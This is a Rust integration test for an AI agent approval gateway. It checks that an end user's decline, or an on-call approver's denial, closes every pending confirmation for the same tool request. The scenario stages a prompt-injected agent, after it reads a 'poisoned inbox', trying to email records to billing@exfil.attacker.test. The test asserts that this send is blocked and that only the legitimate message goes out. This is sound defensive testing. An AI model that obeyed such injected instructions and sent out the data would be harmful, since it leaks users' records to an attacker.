//! A decline by the end user, or a person's denial, closes every question
//! about the same request (issue 23). Before, an answer was honoured before
//! either was checked: a question opened earlier by an eliciting client,
//! confirmed after platform-oncall denied the same request for a
//! non-eliciting client of the agent, let it through; so did a second
//! question about a request the end user had declined through the first.
//! Driven with the official Python SDK's `Client` in its default mode
//! (2026-07-28) beside an rmcp client that cannot ask its user.

mod common;

use std::io::{BufRead as _, BufReader, Write as _};
use std::process::{Command, Stdio};

use common::*;
use serde_json::{Value, json};

fn python() -> std::path::PathBuf {
    let p = repo_root().join(".venv/bin/python");
    assert!(p.exists(), "the Python test client is not installed: run scripts/setup-test-deps.sh (the README's test command .ci/run does)");
    p
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denial_or_a_decline_closes_every_open_question_about_the_request() {
    let dep = quickstart_deployment();
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let colleague = deliver_bobs_request_for_the_colleague(&dep);
    let token = dep.mint("triage");
    // The agent's other client: it cannot ask its user (no elicitation).
    let plain = gw.connect(&token).await;
    let task = after_reading_the_poisoned_inbox(&plain).await;

    let mut script = Command::new(python())
        .arg(repo_root().join("tests/support/python/question_order.py"))
        .args([&gw.url, &token, &task, colleague])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(script.stdout.take().unwrap()).lines();
    let opened: Value = serde_json::from_str(&lines.next().expect("the script opened no questions").unwrap()).unwrap();
    assert!(opened["opened"].as_array().unwrap().iter().all(|s| s.as_str().is_some_and(|s| s.starts_with("q_"))), "every request was asked: {opened}");

    // Meanwhile the same request as the third question, from the client
    // that cannot ask, waits for platform-oncall, who denies it.
    let held = grant(&plain, json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "billing@exfil.attacker.test", "subject": "Records", "body": "As requested."}, "purpose": "answer the message"})).await;
    assert_held_for_end_user(&held, "platform-oncall");
    let id = held.unwrap()["approval"].as_str().unwrap().to_owned();
    let credential = dep.path("alice.jwt");
    std::fs::write(&credential, dep.mint_approver("alice@example.org", "platform-oncall")).unwrap();
    let (code, _, err) = jitgate(&["approvals", "deny", &id, "--reason", "not ours", "--config", dep.config.to_str().unwrap(), "--credential", credential.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{err}");

    writeln!(script.stdin.take().unwrap(), "go").unwrap();
    let report: Value = serde_json::from_str(&lines.next().expect("the script printed no report").unwrap()).unwrap();
    let status = script.wait().unwrap();
    assert!(status.success(), "python client failed");

    assert_eq!(report["decline"]["code"], "declined_by_end_user", "{report}");
    assert_eq!(report["confirm_after_decline"]["code"], "declined_by_end_user", "{report}");
    assert_eq!(report["confirm_after_denial"]["code"], "approval_denied", "{report}");
    // The legitimate request, confirmed through its own question, goes out.
    assert_eq!(report["benign"]["is_error"], false, "{report}");
    assert_eq!(report["benign_send"]["is_error"], false, "{report}");
    let sent = sent_to(&dep);
    assert!(sent.iter().any(|t| t == colleague) && !sent.iter().any(|t| t.contains("attacker")), "{sent:?}");
}
